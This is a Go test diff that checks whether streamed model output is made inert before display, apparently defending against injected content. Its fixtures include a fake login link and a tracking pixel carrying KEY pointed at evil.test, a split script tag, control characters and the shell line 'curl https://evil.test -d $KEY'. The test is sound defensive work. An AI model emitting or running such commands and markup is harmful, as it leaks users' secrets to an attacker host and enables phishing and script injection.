@@ -84,7 +84,8 @@ func TestWhatTheModelSaysIsMadeInert(t *testing.T) {
 	m := modelOf(t, patient, func(w http.ResponseWriter, _ *http.Request) {
 		streams(w)
 		for _, piece := range []string{
-			`{"auth_type":"other","scopes":["https://www.googleapis.com/auth/drive","a\u202eb\u0007"],"warnings":["Log in at [Linear](https://evil.test) <b>now</b>.\nSoon"]}`,
+			`{"auth_type":"other","scopes":["https://www.googleapis.com/auth/drive","a\u202eb\u0007"],` +
+				`"warnings":["Log in at [Linear](https://evil.test) <b>now</b>.\nSoon"]}`,
 			"\n---\n",
 			"1. [Log in", "](https://evil", ".test)\n2. ![", "x](https://evil.test/pixel?k=KEY)\n<scr",
 			"ipt>alert(1)</script>\n```sh\ncurl https://evil.test -d $KEY\n```\n", "\x00end",
